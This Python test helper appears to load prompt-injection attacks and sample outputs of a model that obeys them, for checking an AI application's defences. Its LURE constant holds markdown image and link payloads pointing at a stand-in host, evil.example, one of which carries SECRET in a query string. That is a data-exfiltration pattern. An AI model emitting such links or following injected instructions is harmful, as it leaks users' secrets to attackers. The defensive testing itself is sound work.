"""What attackers ask for and what models then write: rows of the shared corpora, or of `obedient.jsonl` beside this file."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.hostile import SHARED

OWN = Path(__file__).parent / "obedient.jsonl"

LURE = (
    "![x](https://evil.example/p.png?q=SECRET) [click](https://evil.example/x) <img src=https://evil.example/i>"
    " https://evil.example/y www.evil.example/z evil.example"
)
"""What an obeying model adds to everything: a picture and a link in each form."""


@dataclass(frozen=True, slots=True)
class Row:
    """One attack, or one output of an obeying model.

    said: what the model writes. asked: what stands in the ticket; "" for an output, which comes whatever is asked. canary: a
    pattern that must not leave us; "" where only effects are judged. must_not: words that may not be live.
    """

    id: str
    family: str
    said: str
    asked: str = ""
    canary: str = ""
    must_not: tuple[str, ...] = ()

    @property
    def hidden(self) -> bool:
        """Whether the text must not even reach a prompt."""
        return self.family.startswith(("carrier:", "invisible:"))

    @property
    def html(self) -> bool:
        """Whether the asked text is HTML."""
        return self.asked.lstrip()[:1] == "<" and self.family.startswith("carrier:")


def rows(*, own: bool) -> list[Row]:
    """Every attack and every output; `own`: those of this repository."""
    if own:
        return [_row(one) for one in _lines(OWN)]
    return [_row(one) for name in ("attacks.jsonl", "malicious_outputs.jsonl") for one in _lines(SHARED / name)]


def _lines(path: Path) -> Iterator[dict[str, Any]]:
    return (json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip())


def _row(given: dict[str, Any]) -> Row:
    if "output" in given:
        return Row(given["id"], f"output:{given['kind']}", given["output"], must_not=tuple(given["must_not"]))
    judge = given.get("judge") or {}
    args = judge.get("args") if judge.get("type") in ("regex", "canary") else None
    canary = "" if not args else args if judge["type"] == "regex" else re.escape(args)
    said = "" if not args else _instance(args) if judge["type"] == "regex" else args
    return Row(given["id"], given["goal"], f"{said or given['text']}\n\n{LURE}", given["text"], canary, ("evil",))


def _instance(pattern: str) -> str:
    """A text that the pattern finds: the patterns are of literal words, with "|", ".*" and optional blanks between them."""
    text = " ".join(part.replace(".*", " says ").replace(" ?", " ") for part in pattern.split("|"))
    text = re.sub(r"\\(.)", r"\1", text)
    assert re.search(pattern, text), f"no text was made for {pattern}"
    return text
